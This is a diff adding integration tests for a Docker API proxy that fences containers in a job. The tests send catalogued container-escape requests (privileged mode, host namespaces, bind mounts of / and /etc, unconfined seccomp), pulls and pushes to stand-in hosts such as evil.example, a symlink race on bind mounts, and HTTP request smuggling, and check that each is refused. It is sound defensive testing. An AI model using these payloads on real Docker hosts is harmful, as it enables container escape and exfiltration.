@@ -79,3 +79,314 @@ def test_docker_container_fenced_by_the_job_policy(ctx):
     dns = [s for s in d.spans() if s.name == "egress.dns" and s.get("egress.job.id") == job]
     check(any(s.get("dns.question.name") in ("ok.test", "ok.test.") for s in dns),
           "no egress.dns span of ok.test from the container: %r" % [s.describe() for s in dns][:4])
+
+
+# Inside the job: each request to the endpoint, its status and message.
+ASK = r"""
+import json, socket, sys
+reqs = json.loads(sys.argv[1])
+out = []
+for method, path, body in reqs:
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(20)
+    s.connect("/run/docker.sock")
+    if isinstance(body, str):
+        data = body.encode()
+    elif body is None:
+        data = b""
+    else:
+        data = json.dumps(body).encode()
+    head = "%s %s HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\n" \
+           "Content-Length: %d\r\n\r\n" % (method, path, len(data))
+    s.sendall(head.encode() + data)
+    got = b""
+    while True:
+        b = s.recv(65536)
+        if not b:
+            break
+        got += b
+    s.close()
+    text = got.decode(errors="replace")
+    status = int(text.split(" ", 2)[1]) if text.startswith("HTTP/1.") else 0
+    body = text.split("\r\n\r\n", 1)[1] if "\r\n\r\n" in text else ""
+    try:
+        msg = json.loads(body).get("message", "")
+    except Exception:
+        msg = body[:300]
+    out.append([status, msg])
+print(json.dumps(out), flush=True)
+"""
+
+IMG = DK.IMAGE
+
+
+def escapes(outsider):
+    """(request, what the refusal must say)."""
+    def create(hc=None, name=None, **top):
+        b = {"Image": IMG, "Cmd": ["true"]}
+        if hc is not None:
+            b["HostConfig"] = hc
+        b.update(top)
+        return ("POST", "/v1.41/containers/create" + ("?name=" + name if name else ""), b)
+    return [
+        (create({"Privileged": True}), "privileged"),
+        (create({"NetworkMode": "host"}), "host's network"),
+        (create({"PidMode": "host"}), "PID namespace"),
+        (create({"IpcMode": "host"}), "IPC namespace"),
+        (create({"UTSMode": "host"}), "UTS namespace"),
+        (create({"UsernsMode": "host"}), "user namespace"),
+        (create({"CgroupnsMode": "host"}), "cgroup namespace"),
+        (create({"Devices": [{"PathOnHost": "/dev/mem", "PathInContainer": "/dev/mem",
+                              "CgroupPermissions": "rwm"}]}), "devices"),
+        (create({"DeviceCgroupRules": ["c *:* rwm"]}), "device cgroup rules"),
+        (create({"CapAdd": ["SYS_ADMIN"]}), "capability SYS_ADMIN"),
+        (create({"CapAdd": ["ALL"]}), "capability ALL"),
+        (create({"Capabilities": ["CAP_SYS_ADMIN"]}), "capability set"),
+        (create({"CgroupParent": "/"}), "cgroup parent"),
+        (create({"SecurityOpt": ["seccomp=unconfined"]}), "security option"),
+        (create({"SecurityOpt": ["apparmor=unconfined"]}), "security option"),
+        (create({"SecurityOpt": ["systempaths=unconfined"]}), "security option"),
+        (create({"MaskedPaths": []}), "unmasked"),
+        (create({"ReadonlyPaths": []}), "writable /proc"),
+        (create({"Binds": ["/etc:/host-etc"]}), "bind mount of /etc"),
+        (create({"Binds": ["/:/host"]}), "bind mount of /"),
+        (create({"Binds": ["/run/docker.sock:/var/run/docker.sock"]}), "bind mount of"),
+        (create({"Mounts": [{"Type": "bind", "Source": "/root", "Target": "/r"}]}),
+         "bind mount of /root"),
+        (create({"Mounts": [{"Type": "volume", "Target": "/v", "VolumeOptions": {
+            "DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind",
+                                                          "device": "/etc"}}}}]}),
+         "driver options"),
+        (create({"LogConfig": {"Type": "syslog", "Config": {
+            "syslog-address": "udp://198.18.2.4:514"}}}), "log driver"),
+        (create({"Runtime": "runsc"}), "runtime"),
+        (create({"Sysctls": {}, "PublishAllPorts": True}), "every port"),
+        (create({"PortBindings": {"80/tcp": [{"HostIp": "198.18.0.1", "HostPort": "8080"}]}}),
+         "publishing a port on 198.18.0.1"),
+        (create({"NetworkMode": "container:" + outsider}), "only a container of this job"),
+        (create({"PidMode": "container:" + outsider}), "only a container of this job"),
+        (create({"VolumesFrom": [outsider]}), "only containers of this job"),
+        (create(Labels={"io.egress-fence.job": "another-job"}), "egress-fence's own"),
+        # how Go reads JSON: any case, the last of repeated keys, Unicode folding
+        (("POST", "/v1.41/containers/create",
+          '{"Image": "%s", "hostconfig": {"privileged": true}}' % IMG), "privileged"),
+        (("POST", "/v1.41/containers/create",
+          '{"Image": "%s", "HostConfig": {"Privileged": false, "Privileged": true}}' % IMG),
+         "given twice"),
+        (("POST", "/v1.41/containers/create",
+          '{"Image": "%s", "HostConfig": {"Network\u212aode": "host"}}' % IMG),
+         "not plain ASCII"),
+        # a start's own HostConfig (API before 1.24), an old version
+        (("POST", "/v1.41/containers/%s/start" % outsider, None), "not one of this job's"),
+        (("POST", "/v1.23/containers/create", {"Image": IMG}), "API version"),
+        (("POST", "/v1.41/containers/%s/exec" % outsider, {"Cmd": ["id"]}),
+         "not one of this job's"),
+        (("DELETE", "/v1.41/containers/%s?force=1" % outsider, None), "not one of this job's"),
+        (("GET", "/v1.41/containers/%s/archive?path=/etc" % outsider, None),
+         "not one of this job's"),
+        (("POST", "/v1.41/containers/prune", None), "prune"),
+        (("POST", "/v1.41/images/create?fromImage=evil.example%2Fleak&tag=x", None),
+         "evil.example:443"),
+        (("POST", "/v1.41/images/create?fromSrc=http%3A%2F%2F198.18.2.4%2Fx", None),
+         "from a URL"),
+        (("POST", "/v1.41/images/%s/push" % "198.18.2.4:5000/x", None), "198.18.2.4:5000"),
+        (("POST", "/v1.41/build?t=x", ""), "docker build"),
+        (("POST", "/v1.41/session", None), "docker build"),
+        (("POST", "/v1.41/auth", {"serveraddress": "https://evil.example/v2/",
+                                  "username": "u", "password": "p"}), "evil.example:443"),
+        (("POST", "/v1.41/volumes/create", {"Name": "hostetc", "DriverOpts": {
+            "type": "none", "o": "bind", "device": "/etc"}}), "driver options"),
+        (("POST", "/v1.41/networks/create", {"Name": "mv", "Driver": "macvlan"}),
+         "network driver macvlan"),
+        (("POST", "/v1.41/plugins/pull?remote=evil.example/p", None), "plugins"),
+        (("POST", "/v1.41/swarm/init", {}), "swarm"),
+        (("GET", "/v1.41/containers/..%2F..%2Fx/json", None), "segment"),
+    ]
+
+
+@test(timeout=300)
+def test_docker_escape_requests_refused_and_recorded(ctx):
+    """Every request that would let a container out of the fence, or reach
+    what is not the job's, gets a Docker API error naming the reason and an
+    egress.tamper span (tamper_docker) naming the request; dockerd holds no
+    container made by them, and a container outside the job is untouched."""
+    d, dk = docker_daemon(ctx)
+    st, doc = dk.api("POST", "/containers/create?name=outsider-" + ctx.job_id()[-6:],
+                     {"Image": IMG, "Cmd": ["sleep", "300"]})
+    check(st == 201, "the outsider container was not made: %r" % doc)
+    outsider = doc["Id"]
+    before = {c["Id"] for c in dk.containers()}
+    try:
+        cases = escapes(outsider[:12])
+        p, job = job_run(ctx, d, [PY, "-c", ASK, json.dumps([c[0] for c in cases])])
+        check(p.returncode == 0, "the job failed: %s" % p.stderr[-800:])
+        got = json.loads(p.stdout.strip().splitlines()[-1])
+        bad = []
+        for (req, want), (status, msg) in zip(cases, got):
+            if status not in (400, 403, 404) or want.lower() not in msg.lower():
+                bad.append("%s %s -> %d %r (want %r)" % (req[0], req[1], status, msg, want))
+        check(not bad, "requests not refused as they should be:\n  " + "\n  ".join(bad))
+        eq({c["Id"] for c in dk.containers()}, before, "containers dockerd holds after the "
+           "refused requests")
+        st, o = dk.api("GET", "/containers/%s/json" % outsider)
+        check(st == 200, "the outsider container is gone")
+        recs = d.wait_spans("egress.tamper", job, n=len(cases) - 1, timeout=15,
+                            where={"egress.reason": "tamper_docker"})
+        r0 = [s for s in recs if "privileged" in (s.get("egress.tamper.docker.refusal") or "")]
+        check(r0 and r0[0].get("egress.tamper.docker.request", "").startswith(
+            "POST /v1.41/containers/create") and r0[0].get("egress.tamper.via") ==
+            "docker_endpoint", "the tamper span does not name the request: %r" % (
+                [s.describe() for s in recs][:2],))
+    finally:
+        dk.api("DELETE", "/containers/%s?force=1" % outsider)
+
+
+@test(timeout=300)
+def test_docker_streams_binds_and_cleanup(ctx):
+    """The docker CLI inside a job, unchanged: `docker run -i` with stdin,
+    `docker exec`, `docker logs -f`, a bind of the job's working directory;
+    `docker ps -a` lists the job's containers only. A bind source swapped for
+    a symbolic link to /etc after the create still binds what was judged.
+    The container the job leaves running is removed once the job's own
+    processes are gone, and the job then ends."""
+    d, dk = docker_daemon(ctx)
+    work = ctx.path("work")
+    os.makedirs(os.path.join(work, "a"))
+    with open(os.path.join(work, "hello.txt"), "w") as f:
+        f.write("hello from the workdir\n")
+    mark = "ef-pwned-" + ctx.job_id()[-6:]
+    st, doc = dk.api("POST", "/containers/create?name=outsider-" + ctx.job_id()[-6:],
+                     {"Image": IMG, "Cmd": ["true"]})
+    check(st == 201, "the outsider container was not made: %r" % doc)
+    outsider = doc["Id"]
+    name = "bg-" + ctx.job_id()[-6:]
+    D = DK.DOCKER
+    script = """set -e
+echo "host=$DOCKER_HOST"
+echo stdin-line | %(D)s run -i --rm %(I)s cat
+%(D)s run -d --name %(N)s %(I)s sh -c 'while :; do echo tick; sleep 0.2; done' >/dev/null
+%(D)s exec %(N)s echo inside-exec
+timeout 3 %(D)s logs -f %(N)s | head -n 2
+%(D)s run --rm -v "$PWD:/w" %(I)s cat /w/hello.txt
+echo ps: $(%(D)s ps -a --format '{{.Names}}' | tr '\\n' ' ')
+%(D)s create --name race-%(N)s -v "$PWD/a:/x" %(I)s sh -c 'touch /x/%(M)s; ls /x' >/dev/null
+mv a a2 && ln -s /etc a
+%(D)s start -a race-%(N)s
+""" % {"D": D, "I": IMG, "N": name, "M": mark}
+    try:
+        p, job = job_run(ctx, d, ["sh", "-c", script], cwd=work, timeout=180)
+        out = p.stdout
+        check(p.returncode == 0, "the job failed (%d): %s / %s" % (p.returncode, out[-600:],
+                                                                  p.stderr[-1200:]))
+        for want in ("host=unix:///run/docker.sock", "stdin-line", "inside-exec", "tick", "hello from the workdir"):
+            check(want in out, "%r missing from the job's output: %r" % (want, out[-800:]))
+        ps = [l for l in out.splitlines() if l.startswith("ps:")][0].split()[1:]
+        check(name in ps and not any(n.startswith("outsider-") for n in ps),
+              "docker ps -a in the job lists %r" % ps)
+        check(not os.path.exists("/etc/" + mark), "the container wrote /etc/%s through a "
+              "link swapped in after its create: ESCAPE" % mark)
+        check(os.path.exists(os.path.join(work, "a2", mark)), "the judged directory did not "
+              "get the container's file: %r" % os.listdir(work))
+        deadline = time.time() + 30
+        while time.time() < deadline and dk.containers(label=job):
+            time.sleep(0.5)
+        eq([c["Names"] for c in dk.containers(label=job)], [], "the job's containers after "
+           "it ended")
+        d.job_span(job, timeout=20)
+        st, _ = dk.api("GET", "/containers/%s/json" % outsider)
+        check(st == 200, "the container outside the job was removed")
+        left = os.path.join(d.run_dir, "docker", job)
+        deadline = time.time() + 10
+        while time.time() < deadline and os.path.exists(left):
+            time.sleep(0.2)
+        check(not os.path.exists(left), "the job's bind mounts were left at %s" % left)
+    finally:
+        dk.api("DELETE", "/containers/%s?force=1" % outsider)
+        try:
+            os.unlink("/etc/" + mark)
+        except OSError:
+            pass
+
+
+RAW = r"""
+import json, socket, sys
+out = []
+for raw in json.load(open(sys.argv[1])):
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(20)
+    s.connect("/run/docker.sock")
+    got = b""
+    try:
+        s.sendall(raw.encode("latin-1"))
+        s.shutdown(socket.SHUT_WR)
+        while True:
+            b = s.recv(65536)
+            if not b:
+                break
+            got += b
+    except OSError as e:
+        got = ("error %s" % e).encode()
+    s.close()
+    out.append(got.decode("latin-1")[:400])
+print(json.dumps(out), flush=True)
+"""
+
+
+@test(timeout=300)
+def test_docker_endpoint_bad_input(ctx):
+    """Malformed HTTP, a huge head, malformed and oversized chunked bodies,
+    truncated JSON, two framings at once, a second request hidden behind the
+    first: each gets an error or nothing, dockerd holds no new container
+    (the hidden request never reached it), and the endpoint then serves a
+    good request as before."""
+    d, dk = docker_daemon(ctx)
+    tag = ctx.job_id()[-6:]
+    body = json.dumps({"Image": IMG, "Cmd": ["true"]})
+    smuggled = "POST /v1.41/containers/create?name=smuggled-%s HTTP/1.1\r\nHost: d\r\n" \
+               "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (
+                   tag, len(body), body)
+    cases = [
+        ("garbage\r\n\r\n", "400"),
+        ("GET /_ping\r\n\r\n", "400"),
+        ("GET /_ping HTTP/1.1\nHost: x\n\n", ""),  # bare LF: never a full head; closed
+        ("GET /_ping HTTP/1.1\r\nX: " + "a" * 70000 + "\r\n\r\n", "400"),
+        ("GET /_ping HTTP/1.1\r\nBad Header: x\r\n\r\n", "400"),
+        ("GET /_ping HTTP/1.1\r\nX: a\r\n b\r\n\r\n", "400"),
+        ("POST /v1.41/containers/create?name=te-%s HTTP/1.1\r\nContent-Length: 5\r\n"
+         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % tag, "400"),
+        ("POST /v1.41/containers/create?name=cl-%s HTTP/1.1\r\nContent-Length: 5\r\n"
+         "Content-Length: 6\r\n\r\nxxxxxx" % tag, "400"),
+        ("POST /v1.41/containers/create?name=ch-%s HTTP/1.1\r\nTransfer-Encoding: chunked\r\n"
+         "\r\nzz\r\nxx\r\n0\r\n\r\n" % tag, "400"),
+        ("POST /v1.41/containers/create?name=tr-%s HTTP/1.1\r\nContent-Length: 40\r\n\r\n"
+         '{"Image": "%s", "Cmd": [' % (tag, IMG), "400"),
+        ("POST /v1.41/containers/create?name=js-%s HTTP/1.1\r\nContent-Length: 9\r\n\r\n"
+         '{"Image":' % tag, "400"),
+        ("POST /v1.41/containers/create?name=tl-%s HTTP/1.1\r\nContent-Length: %d\r\n\r\n%s"
+         "garbage" % (tag, len(body) + 7, body), "400"),
+        ("POST /v1.41/containers/create?name=big-%s HTTP/1.1\r\nTransfer-Encoding: chunked"
+         "\r\n\r\n%s" % (tag, ("100000\r\n" + "a" * 0x100000 + "\r\n") * 2 + "0\r\n\r\n"), "400"),
+        # a good ping whose connection carries a second request behind it
+        ("GET /_ping HTTP/1.1\r\nHost: d\r\n\r\n" + smuggled, "200"),
+        ("POST /v1.41/containers/%s/start HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}" %
+         ("x" * 12), "404"),
+    ]
+    path = ctx.path("raw.json")
+    with open(path, "w") as f:
+        json.dump([c[0] for c in cases], f)
+    p, job = job_run(ctx, d, [PY, "-c", RAW, path])
+    check(p.returncode == 0, "the job failed: %s" % p.stderr[-800:])
+    got = json.loads(p.stdout.strip().splitlines()[-1])
+    bad = []
+    for (raw, want), g in zip(cases, got):
+        if want and not g.startswith("HTTP/1.1 " + want):
+            bad.append("%r -> %r (want %s)" % (raw[:70], g[:120], want))
+        if not want and g.startswith("HTTP/1.1 2"):
+            bad.append("%r -> %r (want no success)" % (raw[:70], g[:120]))
+    check(not bad, "bad input not answered as it should be:\n  " + "\n  ".join(bad))
+    names = [n for c in dk.containers() for n in c.get("Names", [])]
+    check(not any(tag in n for n in names), "dockerd holds a container the bad input made: "
+          "%r" % names)
+    check(d.proc.poll() is None, "egressd died")
+    p, _ = job_run(ctx, d, [DK.DOCKER, "run", "--rm", IMG, "echo", "still-serving"])
+    check("still-serving" in p.stdout, "the endpoint no longer serves: %s" % p.stderr[-500:])
